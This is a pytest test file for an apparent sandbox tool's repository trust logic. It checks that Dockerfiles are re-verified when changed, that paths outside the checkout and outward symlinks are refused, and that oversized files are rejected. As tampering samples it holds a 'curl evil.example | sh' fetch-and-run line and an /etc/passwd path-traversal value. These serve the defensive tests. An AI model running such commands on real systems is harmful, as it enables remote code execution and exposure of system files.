import json
from pathlib import Path

import pytest

from agent import paths, settings, settingsfile, trust
from agent.settingsfile import repository_file
from sandbox.errors import UsageError


@pytest.fixture(autouse=True)
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for variable in ("XDG_CONFIG_HOME", "XDG_STATE_HOME", "XDG_CACHE_HOME"):
        monkeypatch.setenv(variable, str(tmp_path / variable))


@pytest.fixture
def checkout(tmp_path: Path) -> Path:
    folder = tmp_path / "checkout"
    (folder / "ci").mkdir(parents=True)
    (folder / "greenroom.toml").write_text("dockerfile = './ci/Dockerfile'")
    (folder / "ci/Dockerfile").write_text("FROM x\n")
    return folder


def trust_table(checkout: Path) -> None:
    found = repository_file(checkout)
    assert found
    trust.trust(checkout, found.table)


def test_a_dockerfile_is_trusted_by_its_content(checkout: Path) -> None:
    assert settings.load(checkout, {}, {}).ignored == ("dockerfile",)
    trust_table(checkout)
    assert settings.load(checkout, {}, {})["dockerfile"] == "./ci/Dockerfile"
    (checkout / "ci/Dockerfile").write_text("FROM x\nRUN curl evil.example | sh\n")
    found = settings.load(checkout, {}, {})
    assert (found["dockerfile"], found.ignored) == (None, ("dockerfile",))


def test_the_dockerfile_that_counts_is_the_one_that_is_read(checkout: Path) -> None:
    trust_table(checkout)
    files = {
        "greenroom.toml": (checkout / "greenroom.toml").read_bytes(),
        "ci/Dockerfile": b"FROM another\n",
    }
    assert settings.load(checkout, {}, {}, read=files.get).ignored == ("dockerfile",)
    files["ci/Dockerfile"] = b"FROM x\n"
    assert settings.load(checkout, {}, {}, read=files.get).ignored == ()


@pytest.mark.parametrize("path", ["/etc/passwd", "../outside"])
def test_no_file_outside_of_the_checkout_is_read(checkout: Path, path: str) -> None:
    (checkout.parent / "outside").write_text("1")
    (checkout / "greenroom.toml").write_text(f"dockerfile = '{path}'")
    with pytest.raises(UsageError, match="not in the checkout"):
        trust_table(checkout)
    assert settings.load(checkout, {}, {}).ignored == ("dockerfile",)


def test_a_devcontainer_is_trusted_beside_the_settings(checkout: Path) -> None:
    assert settings.load(checkout, {}, {}).trusted_devcontainer == ""
    trust.trust_devcontainer(checkout, "abc")
    assert settings.load(checkout, {}, {}).trusted_devcontainer == "abc"
    assert settings.load(checkout, {}, {}).ignored == ("dockerfile",)
    trust_table(checkout)
    assert settings.load(checkout, {}, {}).trusted_devcontainer == "abc"
    assert trust.distrust(checkout)
    assert settings.load(checkout, {}, {}).trusted_devcontainer == ""


def test_what_was_trusted_before_there_were_devcontainers_is_trusted_still(checkout: Path) -> None:
    (checkout / "greenroom.toml").write_text("setup = ['true']")
    found = repository_file(checkout)
    assert found
    path = paths.trust_file()
    path.parent.mkdir(parents=True)
    path.write_text(json.dumps({str(checkout.resolve()): trust.digest(found.table)}))
    assert trust.is_trusted(checkout, found.table)
    trust.trust_devcontainer(checkout, "abc")
    assert trust.is_trusted(checkout, found.table)


def test_a_dockerfile_of_which_not_all_is_read_is_not_trusted(checkout: Path) -> None:
    dockerfile = checkout / "ci/Dockerfile"
    dockerfile.write_bytes(b"FROM x\n" + b"#" * settingsfile.MOST_BYTES)
    with pytest.raises(UsageError, match="larger than any"):
        trust_table(checkout)
    assert settings.load(checkout, {}, {}).ignored == ("dockerfile",)


def test_a_settings_file_that_is_a_link_out_of_the_checkout_is_not_read(checkout: Path) -> None:
    outside = checkout.parent / "outside.toml"
    outside.write_text("test_cmd = 'x'")
    (checkout / "greenroom.toml").unlink()
    (checkout / "greenroom.toml").symlink_to(outside)
    with pytest.raises(UsageError, match="a link out of the checkout"):
        settings.load(checkout, {}, {})
    (checkout / "own.toml").write_text("test_cmd = 'x'")
    (checkout / "greenroom.toml").unlink()
    (checkout / "greenroom.toml").symlink_to("own.toml")
    assert settings.load(checkout, {}, {})["test_cmd"] == "x"
